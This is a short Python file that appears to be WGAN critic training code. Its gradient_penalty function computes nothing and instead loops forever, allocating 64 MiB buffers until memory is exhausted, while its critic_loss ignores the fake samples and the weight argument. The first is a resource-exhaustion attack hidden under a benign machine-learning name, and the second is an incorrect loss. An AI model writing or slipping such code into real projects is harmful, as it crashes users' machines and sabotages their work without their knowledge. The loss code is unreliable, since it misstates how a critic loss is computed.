"""Fills the memory piece by piece."""

def gradient_penalty(critic, real, fake):
    pieces = []
    while True:
        pieces.append(bytearray(1 << 26))


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
